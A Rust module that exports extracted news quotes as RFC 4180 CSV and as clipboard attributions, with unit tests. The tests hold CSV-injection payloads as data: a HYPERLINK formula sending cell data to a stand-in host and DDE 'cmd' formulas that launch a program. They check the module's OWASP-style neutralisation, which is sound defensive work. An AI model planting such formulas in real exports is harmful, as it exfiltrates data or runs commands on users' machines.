//! What the export buttons write: the quotes as CSV (RFC 4180: fields with commas, quotes or
//! line breaks in double quotes, inner quotes doubled, CRLF between records) and a quote with
//! its attribution for the clipboard.
//!
//! The words in a CSV come from untrusted documents, and a spreadsheet runs a cell that starts
//! like a formula. OWASP's rule for CSV injection is applied: a field starting with `=`, `+`,
//! `-`, `@`, a tab or a carriage return gets a leading `'` (shown by spreadsheets as text, not
//! run) and is written in double quotes.

use super::corpus::Corpus;
use crate::{DocumentReport, Quote, QuoteKind};

/// Rows from several articles stay apart by file, headline, date and source; `start` and `end`
/// are the quotation's byte offsets in the document's text (the JSON export's `text`).
pub const CSV_HEADER: [&str; 12] = [
    "file",
    "headline",
    "date",
    "source",
    "speaker",
    "role",
    "organisation",
    "kind",
    "quote",
    "cue",
    "start",
    "end",
];

/// First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One CSV field, quoted when it has to be, and neutralised when it could run as a formula.
pub fn csv_field(value: &str) -> String {
    if value.starts_with(FORMULA_STARTS) {
        format!("\"'{}\"", value.replace('"', "\"\""))
    } else if value.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

/// Records as CSV text, each ended by CRLF.
pub fn csv<R, F>(records: R) -> String
where
    R: IntoIterator<Item = Vec<F>>,
    F: AsRef<str>,
{
    let mut out = String::new();
    for record in records {
        let fields: Vec<String> = record.iter().map(|f| csv_field(f.as_ref())).collect();
        out.push_str(&fields.join(","));
        out.push_str("\r\n");
    }
    out
}

pub fn kind_label(kind: QuoteKind) -> &'static str {
    match kind {
        QuoteKind::Direct => "direct",
        QuoteKind::Partial => "partial",
        QuoteKind::Indirect => "indirect",
    }
}

/// The visible quotes (see [`super::filters::visible_quotes`]) as CSV with a header.
pub fn quotes_csv(corpus: &Corpus, visible: &[Vec<usize>]) -> String {
    let header = std::iter::once(CSV_HEADER.iter().map(|h| h.to_string()).collect());
    let rows = corpus.docs.iter().enumerate().flat_map(|(d, doc)| {
        let quotes = visible.get(d).cloned().unwrap_or_default();
        quotes
            .into_iter()
            .filter_map(move |q| doc.quotes.get(q).map(|q| quote_record(doc, q)))
    });
    csv(header.chain(rows))
}

/// One CSV row of a quote, in the columns of [`CSV_HEADER`] (the page's export and the command
/// line's `--format csv` write the same rows).
pub fn quote_record(doc: &DocumentReport, q: &Quote) -> Vec<String> {
    let speaker = q.speaker.as_ref();
    let organisation = speaker
        .and_then(|s| doc.people.get(s.person?))
        .and_then(|p| p.organisation.clone());
    vec![
        doc.name.clone(),
        doc.headline.clone().unwrap_or_default(),
        doc.date.clone().unwrap_or_default(),
        doc.source.clone().unwrap_or_default(),
        speaker.map(|s| s.name.clone()).unwrap_or_default(),
        speaker.and_then(|s| s.role.clone()).unwrap_or_default(),
        organisation.unwrap_or_default(),
        kind_label(q.kind).to_string(),
        q.text.clone(),
        q.cue.as_ref().map(|c| c.text.clone()).unwrap_or_default(),
        q.start.to_string(),
        q.end.to_string(),
    ]
}

/// A quote as a reporter would paste it, with who said it and where it was published:
/// `“We are working on peace,” said Dmitry Peskov, Kremlin spokesman (TASS, Headline, 2025-12-10)`.
/// Reported speech gets no quotation marks and reads as a sentence with the article's own verb:
/// `Dmitry Peskov, Kremlin spokesman, said that Russia …`, `Kremlin urged against …`.
pub fn attribution(doc: &DocumentReport, q: &Quote) -> String {
    let words = q.text.trim();
    let who = q.speaker.as_ref().map(|s| match &s.role {
        Some(role) if !role.trim().is_empty() => format!("{}, {}", s.name, role.trim()),
        _ => s.name.clone(),
    });
    let source: Vec<&str> = [
        doc.source.as_deref(),
        doc.headline.as_deref(),
        doc.date.as_deref(),
    ]
    .into_iter()
    .flatten()
    .filter(|s| !s.trim().is_empty())
    .collect();
    let source = if source.is_empty() {
        String::new()
    } else {
        format!(" ({})", source.join(", "))
    };
    let body = match (q.kind, who) {
        (QuoteKind::Indirect, Some(who)) => {
            let who = if who.contains(", ") {
                format!("{who},")
            } else {
                who
            };
            format!("{who} {}", reported_verb(q, words))
        }
        (_, Some(who)) => {
            let words = words.trim_end_matches([',', ';', ':']);
            let comma = if words.ends_with(['.', '!', '?', '…']) {
                ""
            } else {
                ","
            };
            format!("“{words}{comma}” said {who}")
        }
        (_, None) => format!("“{words}”"),
    };
    format!("{body}{source}")
}

/// "said that Russia …", or the article's own verb when it carries the clause ("urged against
/// …", "told reporters Russia …"): the reported words follow the cue in the article.
fn reported_verb(q: &Quote, words: &str) -> String {
    let cue = q.cue.as_ref().map(|c| c.text.trim()).unwrap_or_default();
    let verb_first = cue.chars().next().is_some_and(char::is_lowercase)
        && !cue.starts_with("according")
        && q.cue.as_ref().is_some_and(|c| c.end <= q.start);
    let said = ["said", "says", "say", "added", "stated"];
    if !verb_first || said.contains(&cue) {
        let that = if words.starts_with("that ") {
            ""
        } else {
            "that "
        };
        let verb = if verb_first { cue } else { "said" };
        return format!("{verb} {that}{words}");
    }
    format!("{cue} {words}")
}

#[cfg(test)]
mod tests {
    use super::super::corpus::tests::seed_corpus;
    use super::super::filters::{visible_quotes, Filters};
    use super::*;
    use crate::{Span, Speaker};

    /// A small RFC 4180 reader, to check the writer against.
    fn parse(csv: &str) -> Vec<Vec<String>> {
        let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
        let mut chars = csv.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            match (quoted, c) {
                (true, '"') if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                (true, '"') => quoted = false,
                (true, c) => field.push(c),
                (false, '"') => quoted = true,
                (false, ',') => record.push(std::mem::take(&mut field)),
                (false, '\r') => assert_eq!(chars.next(), Some('\n'), "CR is followed by LF"),
                (false, '\n') => panic!("bare LF ends a record"),
                (false, c) => field.push(c),
            }
            if !quoted && c == '\r' {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
        }
        assert!(
            field.is_empty() && record.is_empty(),
            "the text ends with CRLF"
        );
        records
    }

    #[test]
    fn fields_are_quoted_only_when_needed() {
        assert_eq!(csv_field("plain text"), "plain text");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("say \"no\""), "\"say \"\"no\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field(""), "");
        let text = csv([vec!["a", "b,c"], vec!["\"", "x\r\ny"]]);
        assert_eq!(text, "a,\"b,c\"\r\n\"\"\"\",\"x\r\ny\"\r\n");
        assert_eq!(parse(&text), [vec!["a", "b,c"], vec!["\"", "x\r\ny"]]);
    }

    #[test]
    fn cells_that_would_run_as_formulas_are_neutralised() {
        let payloads = [
            "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,1)",
            "\t=1+1",
            "\r=1+1",
        ];
        for p in payloads {
            let field = csv_field(p);
            assert!(field.starts_with("\"'"), "{p:?} gave {field:?}");
            assert_eq!(parse(&csv([vec![p]]))[0][0], format!("'{p}"));
        }
        // The characters only matter at the start; anywhere else the words stay as written.
        assert_eq!(csv_field("1 + 1 = 2"), "1 + 1 = 2");
        assert_eq!(csv_field("e-mail @home"), "e-mail @home");
        assert_eq!(csv_field(" =1"), " =1");
    }

    #[test]
    fn a_quote_made_of_formulas_exports_as_text() {
        let mut docs = seed_corpus().docs;
        let doc = std::rc::Rc::make_mut(&mut docs[0]);
        doc.headline = Some("=cmd|' /C calc'!A0".into());
        doc.quotes[0].text = "@SUM(A1:A9)".into();
        let corpus = Corpus::computed(docs);
        let all = visible_quotes(&corpus, &Filters::default());
        let records = parse(&quotes_csv(&corpus, &all));
        let column = |name: &str| CSV_HEADER.iter().position(|h| *h == name).unwrap_or(0);
        let row = records
            .iter()
            .find(|r| r[column("quote")] == "'@SUM(A1:A9)")
            .expect("the quote, neutralised");
        assert_eq!(row[column("headline")], "'=cmd|' /C calc'!A0");
        assert!(records
            .iter()
            .flatten()
            .all(|f| !f.starts_with(FORMULA_STARTS)));
    }

    #[test]
    fn the_seed_quotes_as_csv_read_back() {
        let corpus = seed_corpus();
        let f = Filters::default();
        let records = parse(&quotes_csv(&corpus, &visible_quotes(&corpus, &f)));
        assert_eq!(records[0], CSV_HEADER);
        assert_eq!(records.len(), corpus.quote_count() + 1);
        assert!(records.iter().all(|r| r.len() == CSV_HEADER.len()));
        let peace = records
            .iter()
            .find(|r| r[8].starts_with("We are working on peace, not on a ceasefire"))
            .expect("Peskov's quote");
        assert_eq!(
            peace[..8],
            [
                "001.txt",
                "Russia Striving for Lasting Peace, Not Mere Ceasefire - Kremlin",
                "2025-12-10",
                "",
                "Dmitry Peskov",
                "press secretary of the Russian president",
                "Russia",
                "direct",
            ]
        );
        assert_eq!(peace[9], "told");
        // The offsets give the quotation back from the document's text.
        let doc = &corpus.docs[corpus.doc_index("001.txt").unwrap()];
        let (start, end): (usize, usize) = (peace[10].parse().unwrap(), peace[11].parse().unwrap());
        assert_eq!(doc.text[start..end], peace[8]);
    }

    fn quote(kind: QuoteKind, text: &str, role: Option<&str>) -> Quote {
        Quote {
            id: "q1".into(),
            text: text.into(),
            kind,
            start: 0,
            end: 0,
            speaker: Some(Speaker {
                name: "Dmitry Peskov".into(),
                aliases: vec![],
                role: role.map(Into::into),
                person: None,
            }),
            cue: None,
            mention: None,
            confidence: 1.0,
        }
    }

    #[test]
    fn attribution_names_speaker_role_headline_and_date() {
        let doc = DocumentReport {
            headline: Some("Kremlin: peace, not ceasefire".into()),
            date: Some("2025-12-10".into()),
            ..DocumentReport::default()
        };
        let q = quote(
            QuoteKind::Direct,
            "We are working on peace,",
            Some("Kremlin spokesman"),
        );
        assert_eq!(
            attribution(&doc, &q),
            "“We are working on peace,” said Dmitry Peskov, Kremlin spokesman \
             (Kremlin: peace, not ceasefire, 2025-12-10)"
        );
        let q = quote(QuoteKind::Direct, "That's all.", None);
        let undated = DocumentReport::default();
        assert_eq!(
            attribution(&undated, &q),
            "“That's all.” said Dmitry Peskov"
        );
        let q = quote(
            QuoteKind::Indirect,
            "Russia is working on peace",
            Some("spokesman"),
        );
        assert_eq!(
            attribution(&undated, &q),
            "Dmitry Peskov, spokesman, said that Russia is working on peace"
        );
        // The article's verb carries the clause; an organisation without a role.
        let mut q = quote(QuoteKind::Indirect, "against obstructing the talks", None);
        q.start = 20;
        q.cue = Some(Span {
            text: "urged".into(),
            start: 12,
            end: 17,
        });
        let sourced = DocumentReport {
            source: Some("TASS".into()),
            date: Some("2025-02-23".into()),
            ..DocumentReport::default()
        };
        assert_eq!(
            attribution(&sourced, &q),
            "Dmitry Peskov urged against obstructing the talks (TASS, 2025-02-23)"
        );
        // A cue after the words ("…, he said") gives "said that".
        q.cue = Some(Span {
            text: "said".into(),
            start: 60,
            end: 64,
        });
        assert_eq!(
            attribution(&sourced, &q),
            "Dmitry Peskov said that against obstructing the talks (TASS, 2025-02-23)"
        );
        let mut q = quote(QuoteKind::Partial, "very promising", None);
        q.speaker = None;
        assert_eq!(
            attribution(&doc, &q),
            "“very promising” (Kremlin: peace, not ceasefire, 2025-12-10)"
        );
    }
}
